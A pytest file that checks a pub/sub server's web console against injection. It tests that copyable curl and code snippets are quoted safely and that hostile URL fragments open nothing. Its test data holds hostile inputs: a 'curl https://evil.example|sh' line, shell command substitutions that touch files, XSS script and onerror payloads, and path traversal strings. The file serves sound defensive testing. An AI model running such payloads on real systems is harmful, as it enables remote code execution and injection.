"""What the console lets one copy: harmless and right, whatever a link or an address says."""

from __future__ import annotations

import ast
import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.support.chromium import Chromium, Page
from tests.support.nginx import Proxy
from tests.support.programs import find_or_skip
from tests.support.server import Server

CHANNEL = "a.b:c-d_e.o'neil|a+b=c~d@example.org"
CHANNELS = 'operators: anyone\nchannels: {plain: {publish: anyone}, "a.b:c-d_e.{id}": {publish: anyone}}\n'
HOSTILE_PATH = "/it's;touch$IFS'pwned$(touch$IFS.pwned)&"
"""What no browser encodes in a path, and a shell reads."""

NO_CHANNELS = [
    "lebowski; curl https://evil.example|sh",
    "lebowski' ; touch pwned; '",
    'lebowski" + alert(1) + "',
    "`touch pwned`",
    "$(touch pwned)",
    "a\nb",
    "</script><script>refused.push('ran')</script>",
    "<img src=x onerror=refused.push('ran')>",
    "../channels",
    "a/b",
    "chat a",
    "a" * 256,
    "lebowski?x=y",
    "é",
]


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    """Return where a proxy has the server, under the worst of paths."""
    location = f"""location "{HOSTILE_PATH}/" {{
        proxy_pass http://abide/;
        proxy_set_header Host $http_host;
        proxy_set_header Upgrade $http_upgrade;
        proxy_set_header Connection $http_connection;
    }}"""
    with Server(channels=CHANNELS) as server, Proxy(server.port, location) as proxy:
        yield f"http://127.0.0.1:{proxy.ports[0]}{HOSTILE_PATH}"


@pytest.fixture(scope="module")
def tab(chromium: Chromium) -> Iterator[Page]:
    """Return one tab for all links that come to nothing."""
    with chromium.page() as page:
        yield page


@pytest.fixture
def blank(tab: Page) -> Page:
    """Return the tab without a page: with one, another fragment would load nothing."""
    tab.open("about:blank")
    return tab


@pytest.mark.parametrize("name", NO_CHANNELS)
def test_a_link_to_what_can_be_no_channel_opens_nothing(blank: Page, url: str, name: str) -> None:
    """Console opens nothing for a link to what cannot be a channel's name, runs nothing of it, and works on."""
    blank.open(f"{url}/#{quote(name, safe='')}")
    blank.until("document.querySelector('#list button') !== null")
    assert blank.run("return document.querySelector('#channel').hidden") is True
    assert blank.run("return document.querySelector('#snippets').textContent") == ""
    assert blank.run("return [refused, document.querySelector('#state').dataset.state]") == [[], "closed"]


@pytest.mark.parametrize("fragment", ["%", "%E0%A4%A", "%ff"])
def test_a_link_that_is_none_opens_nothing(blank: Page, url: str, fragment: str) -> None:
    """Console works on after a link that cannot be decoded."""
    blank.open(f"{url}/#{fragment}")
    blank.until("document.querySelector('#list button') !== null")
    assert blank.run("return [refused, document.querySelector('#channel').hidden]") == [[], True]


def test_what_is_copied_has_a_place_for_the_key_that_was_needed(page: Page) -> None:
    """Console puts a key into the curl of a channel for operators where one read the list with a key."""
    text = "operators: key\nauth: {keys: second-key-2}\nchannels: {desk: {publish: operators}}\n"
    with Server(channels=text) as server:
        page.open(f"{server.url}/")
        page.until("!document.querySelector('#key-form').hidden")
        page.run(
            "document.querySelector('#key').value = 'second-key-2'; document.querySelector('#key-form').requestSubmit()"
        )
        page.until("document.querySelector('#list button') !== null")
        page.run("document.querySelector('#list button').click()")
        page.until("document.querySelectorAll('#snippets pre').length === 4")
        assert "-H 'authorization: Bearer <key>'" in page.run(
            "return document.querySelector('#snippets pre').textContent"
        )


def test_what_is_copied_is_harmless_and_right(page: Page, url: str, tmp_path: Path) -> None:
    """Console quotes what it lets one copy: a shell, a JavaScript and a Python program read the address as it is."""
    name = quote(CHANNEL, safe="'")  # as encodeURIComponent does it
    page.open(f"{url}/#{name}")
    page.until("document.querySelectorAll('#snippets pre').length === 4")
    publish, subscribe, script, program = page.run(
        "return [...document.querySelectorAll('#snippets pre')].map(({ textContent }) => textContent)"
    )
    for command in (f"{publish} --fail --silent", f"{subscribe} --fail --silent --max-time 1"):
        done = subprocess.run(["/bin/sh", "-c", command], cwd=tmp_path, capture_output=True, text=True, check=False)
        assert "position" in done.stdout or "world" in done.stdout, (command, done)
    assert list(tmp_path.iterdir()) == []
    literals = [node.value for node in ast.walk(ast.parse(program)) if isinstance(node, ast.Constant)]
    assert f"ws{url.removeprefix('http')}/{name}" in literals
    imported = json.loads(re.findall(r'from (".*");', script)[0])
    assert imported == f"{url}/client.js"
    connect = "const connect = (url) => ({ subscribe: (name) => console.log(JSON.stringify([url, name])) });"
    runs = connect + script.partition('";')[2]
    node = find_or_skip("node", "nodejs")
    done = subprocess.run([node, "--eval", runs], capture_output=True, text=True, timeout=20, check=True)
    assert json.loads(done.stdout) == [url, CHANNEL]


def test_client_encodes_names_that_look_like_paths(page: Page) -> None:
    """Client that is given a name with a path in it asks for no other path than a channel's."""
    with Server(channels=CHANNELS) as server:
        page.open(f"{server.url}/health/live")
        codes = page.run("""
            const { connect } = await import('/client.js');
            const publish = connect(location.origin).publish('../push/plain', 1).catch(({ code }) => code);
            const stream = new Promise((resolve) => connect(location.origin, { WebSocket: null })
                .subscribe('plain/history?x=', { onError: ({ code }) => resolve(code) }));
            return [await publish, await stream];
        """)
        assert codes == ["unknown_channel", "unknown_channel"]
